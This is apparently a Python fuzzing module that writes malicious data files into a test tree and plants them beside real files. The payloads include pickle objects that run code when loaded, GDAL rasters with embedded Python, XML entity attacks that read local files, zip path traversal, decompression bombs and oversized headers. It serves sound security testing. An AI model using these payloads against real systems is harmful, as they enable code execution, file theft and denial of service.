"""Files that only look like data: what an attacker puts in the place of a file, or beside it."""

from __future__ import annotations

import functools
import io
import json
import os
import pickle
import sqlite3
import struct
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
from benchmarks.fuzzing.mutations import Mutation, files, one


class _Run:
    """What runs where it is unpickled: it leaves a file in the working folder, which is watched."""

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return os.mkdir, ("pwned",)


def _url() -> str:
    return os.environ["FUZZ_URL"]


def _precious() -> str:
    return os.environ["FUZZ_PRECIOUS"]


def _vrt(source: str) -> bytes:
    return (
        f'<VRTDataset rasterXSize="64" rasterYSize="64"><SRS>EPSG:4326</SRS><GeoTransform>30,0.2,0,80,0,-0.2'
        f'</GeoTransform><VRTRasterBand dataType="Byte" band="1"{source}</VRTRasterBand></VRTDataset>'
    ).encode()


def vrt_of_url() -> bytes:
    """A raster that GDAL fetches."""
    return _vrt(f"><SimpleSource><SourceFilename>/vsicurl/{_url()}</SourceFilename></SimpleSource>")


def vrt_of_file() -> bytes:
    """A raster whose pixels are the bytes of a file of this machine."""
    return _vrt(
        f' subClass="VRTRawRasterBand"><SourceFilename>{_precious()}</SourceFilename><ImageOffset>0</ImageOffset>'
        "<PixelOffset>0</PixelOffset><LineOffset>0</LineOffset>"
    )


def vrt_of_python() -> bytes:
    """A raster that is a program."""
    return _vrt(
        ' subClass="VRTDerivedRasterBand"><PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>Python'
        '</PixelFunctionLanguage><PixelFunctionCode>import os\nos.mkdir("pwned")</PixelFunctionCode>'
    )


def wms() -> bytes:
    """A map service."""
    return (
        f'<GDAL_WMS><Service name="WMS"><ServerUrl>{_url()}?</ServerUrl><Layers>a</Layers></Service><DataWindow>'
        "<UpperLeftX>-180</UpperLeftX><UpperLeftY>90</UpperLeftY><LowerRightX>180</LowerRightX><LowerRightY>-90"
        "</LowerRightY><SizeX>64</SizeX><SizeY>64</SizeY></DataWindow></GDAL_WMS>"
    ).encode()


def wcs() -> bytes:
    """A coverage service."""
    return f"<WCS_GDAL><ServiceURL>{_url()}?</ServiceURL><CoverageName>a</CoverageName></WCS_GDAL>".encode()


def wmts() -> bytes:
    """A tile service."""
    return f"<GDAL_WMTS><GetCapabilitiesUrl>{_url()}</GetCapabilitiesUrl></GDAL_WMTS>".encode()


def ogr_vrt() -> bytes:
    """Polygons that are elsewhere."""
    where = (_url(), f"CSV:{_precious()}", f"/vsicurl/{_url()}")[0]
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{where}</SrcDataSource></OGRVRTLayer>'
        "</OGRVRTDataSource>"
    ).encode()


def wfs() -> bytes:
    """A feature service."""
    return f"<OGRWFSDataSource><URL>{_url()}?</URL></OGRWFSDataSource>".encode()


def crs_link() -> bytes:
    """GeoJSON whose CRS is to be fetched."""
    crs = {"type": "link", "properties": {"href": _url(), "type": "proj4"}}
    return json.dumps({"type": "FeatureCollection", "crs": crs, "features": []}).encode()


def feature_server() -> bytes:
    """JSON of a server that says there is more."""
    return json.dumps(
        {
            "objectIdFieldName": "a",
            "geometryType": "esriGeometryPolygon",
            "fields": [],
            "exceededTransferLimit": True,
            "next": _url(),
            "features": [],
        }
    ).encode()


def laughs() -> bytes:
    """Entities of entities: 10⁹ letters of 1 kB."""
    levels = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a0 "ha">{levels}]><product>&a9;</product>'.encode()


def entity_of_file() -> bytes:
    """An entity that is a file of this machine, and one that is to be fetched."""
    entities = f'<!ENTITY f SYSTEM "file://{_precious()}"><!ENTITY u SYSTEM "{_url()}">'
    return f"<!DOCTYPE p [{entities}]><product>&f;&u;</product>".encode()


def dtd() -> bytes:
    """A document type that is to be fetched."""
    return f'<?xml version="1.0"?><!DOCTYPE p SYSTEM "{_url()}"><product/>'.encode()


def deep_xml() -> bytes:
    """Elements within elements."""
    return b"<product>" + b"<a>" * 200_000 + b"</a>" * 200_000 + b"</product>"


def deep_json() -> bytes:
    """Lists within lists."""
    return b"[" * 100_000 + b"]" * 100_000


def long_number() -> bytes:
    """A number of a million digits: Python takes the square of that."""
    return b'{"step": ' + b"9" * 1_000_000 + b"}"


def pickled() -> bytes:
    """A pickle."""
    return pickle.dumps(_Run())


def pickled_npy() -> bytes:
    """A NumPy file of objects."""
    file = io.BytesIO()
    np.save(file, np.array([_Run()], dtype=object), allow_pickle=True)
    return file.getvalue()


def _zip(members: dict[str, bytes], *, links: dict[str, str] | None = None) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        for name, target in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.create_system, info.external_attr = 3, 0o120777 << 16
            archive.writestr(info, target)
    return file.getvalue()


def pickled_npz() -> bytes:
    """NumPy's archive of objects."""
    return _zip({"features.npy": pickled_npy(), "class_code.npy": pickled_npy(), "labels.npy": pickled_npy()})


def pickled_torch() -> bytes:
    """torch's archive of objects."""
    return _zip({"a/data.pkl": pickled(), "a/version": b"3\n", "a/byteorder": b"little"})


def zip_outside() -> bytes:
    """An archive that would write outside the place where it is unpacked."""
    return _zip({"../../../../../../cwd/pwned": b"x", "/tmp/pwned": b"x"}, links={"annotation": _precious()})


def zip_bomb() -> bytes:
    """200 MB of zeros in 200 kB, under names of a product."""
    return _zip({f"A.SAFE/{n}": bytes(100 * 2**20) for n in ("manifest.safe", "annotation/s1a-ew-grd-hh.xml")})


def zip_of_many() -> bytes:
    """An archive of 60,000 names."""
    return _zip({f"A.SAFE/annotation/{i}.xml": b"" for i in range(60_000)})


def huge_tiff() -> bytes:
    """A TIFF of 2³¹ × 2³¹ pixels in a few bytes."""
    n = 2**31 - 1
    entries = [
        (256, 4, 1, n),
        (257, 4, 1, n),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (277, 3, 1, 1),
        (278, 4, 1, n),
        (279, 4, 1, 100),
    ]
    tags = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", len(entries)) + tags + bytes(4)


@functools.cache
def _hdf5(kind: str) -> bytes:
    import h5py

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.h5"
        with h5py.File(path, "w") as file:
            for name in ("ice_conc", "ice_class", "z", "lat", "lon"):
                if kind == "link":
                    file[name] = h5py.ExternalLink(_precious(), "/a")
                elif kind == "outside":
                    file.create_dataset(name, (4, 4), "u1", external=[(_precious(), 0, 16)])
                elif kind == "virtual":
                    layout = h5py.VirtualLayout((4, 4), "u1")
                    layout[:] = h5py.VirtualSource(_precious(), "/a", (4, 4), "u1")
                    file.create_virtual_dataset(name, layout)
                else:
                    file.create_dataset(name, (2**24, 2**20), "f8", chunks=(64, 64), compression="gzip")
        return path.read_bytes()


def hdf5_link() -> bytes:
    """HDF5 whose variables are links to another file."""
    return _hdf5("link")


def hdf5_outside() -> bytes:
    """HDF5 whose values are the bytes of another file."""
    return _hdf5("outside")


def hdf5_virtual() -> bytes:
    """HDF5 whose variables are made of those of another file."""
    return _hdf5("virtual")


def hdf5_huge() -> bytes:
    """HDF5 of 128 TB in a few bytes."""
    return _hdf5("huge")


def netcdf3_huge() -> bytes:
    """Classic NetCDF that says it has 2³¹ − 1 × 2³¹ − 1 numbers."""
    n = 2**31 - 1

    def name(s: bytes) -> bytes:
        return struct.pack(">I", len(s)) + s + bytes(-len(s) % 4)

    dims = struct.pack(">II", 10, 2) + name(b"y") + struct.pack(">I", n) + name(b"x") + struct.pack(">I", n)
    var = struct.pack(">II", 11, 1) + name(b"ice_conc") + struct.pack(">III", 2, 0, 1) + bytes(8)
    return b"CDF\x01" + bytes(4) + dims + bytes(8) + var + struct.pack(">III", 5, n, 200)


@functools.cache
def endless_gpkg() -> bytes:
    """A GeoPackage whose table is a view without an end."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.gpkg"
        base = sqlite3.connect(path)
        base.executescript(
            """PRAGMA application_id = 1196444487; PRAGMA user_version = 10300;
            CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY, organization TEXT,
              organization_coordsys_id INTEGER, definition TEXT, description TEXT);
            INSERT INTO gpkg_spatial_ref_sys VALUES ('WGS 84', 4326, 'EPSG', 4326, 'undefined', '');
            CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT, identifier TEXT, description TEXT,
              last_change TEXT, min_x REAL, min_y REAL, max_x REAL, max_y REAL, srs_id INTEGER);
            INSERT INTO gpkg_contents VALUES ('labels', 'features', 'labels', '', '', 0, 0, 1, 1, 4326);
            CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, geometry_type_name TEXT,
              srs_id INTEGER, z INTEGER, m INTEGER);
            INSERT INTO gpkg_geometry_columns VALUES ('labels', 'geom', 'GEOMETRY', 4326, 0, 0);
            CREATE VIEW labels AS WITH RECURSIVE n(fid) AS (SELECT 1 UNION ALL SELECT fid + 1 FROM n)
              SELECT fid, NULL AS geom, 'W' AS kind, 'W' AS POLY_TYPE, '02' AS CT FROM n;"""
        )
        base.commit()
        base.close()
        return path.read_bytes()


def zarr_of_objects() -> bytes:
    """A Zarr 2 array of pickled objects."""
    return json.dumps(
        {
            "zarr_format": 2,
            "shape": [1],
            "chunks": [1],
            "dtype": "|O",
            "order": "C",
            "fill_value": None,
            "compressor": None,
            "filters": [{"id": "pickle"}],
        }
    ).encode()


def zarr_huge() -> bytes:
    """A Zarr array of 10¹⁸ numbers, in one chunk."""
    return json.dumps(
        {
            "zarr_format": 3,
            "node_type": "array",
            "shape": [10**9, 10**9],
            "data_type": "float64",
            "chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [10**9, 10**9]}},
            "chunk_key_encoding": {"name": "default"},
            "codecs": [{"name": "bytes", "configuration": {"endian": "little"}}],
            "fill_value": 0,
            "attributes": {},
        }
    ).encode()


def safetensors_huge() -> bytes:
    """A safetensors file whose header is longer than memory."""
    return struct.pack("<Q", 2**62) + b"{}"


PAYLOADS: tuple[Callable[[], bytes], ...] = (
    vrt_of_url,
    vrt_of_file,
    vrt_of_python,
    wms,
    wcs,
    wmts,
    ogr_vrt,
    wfs,
    crs_link,
    feature_server,
    laughs,
    entity_of_file,
    dtd,
    deep_xml,
    deep_json,
    long_number,
    pickled,
    pickled_npy,
    pickled_npz,
    pickled_torch,
    zip_outside,
    zip_bomb,
    zip_of_many,
    huge_tiff,
    hdf5_link,
    hdf5_outside,
    hdf5_virtual,
    hdf5_huge,
    netcdf3_huge,
    endless_gpkg,
    zarr_of_objects,
    zarr_huge,
    safetensors_huge,
)


#: Endings of what GDAL, SQLite and others look for beside a file.
COMPANIONS = (
    ".aux.xml",
    ".ovr",
    ".msk",
    ".tfw",
    ".wld",
    ".prj",
    ".vrt",
    ".cpg",
    ".qix",
    ".idm",
    ".sbn",
    ".xml",
    ".rpb",
    "-journal",
    "-wal",
    ".zip",
    ".json",
    ".imd",
    "_RPC.TXT",
)


def disguise(root: Path, rng: np.random.Generator) -> str:
    """A file is something else under its old name."""
    path = one(root, rng)
    payload = PAYLOADS[int(rng.integers(len(PAYLOADS)))]
    if not path:
        return ""
    path.write_bytes(payload())
    return f"{path.name} is {payload.__name__}"


def companion(root: Path, rng: np.random.Generator) -> str:
    """Something lies beside a file that GDAL would read along with it."""
    path = one(root, rng)
    if not path:
        return ""
    name = path.name if rng.random() < 0.5 else path.stem
    beside = path.with_name(name + COMPANIONS[int(rng.integers(len(COMPANIONS)))])
    if beside in files(root) or beside.is_dir():
        return ""
    numbers = b"1000\n0\n0\n-1000\n500000\n500000\n"
    payload = PAYLOADS[int(rng.integers(len(PAYLOADS)))]
    beside.write_bytes(numbers if rng.random() < 0.3 else payload())
    return f"{beside.name} beside {path.name}: {payload.__name__}"


DISGUISES: tuple[Mutation, ...] = (disguise, companion)
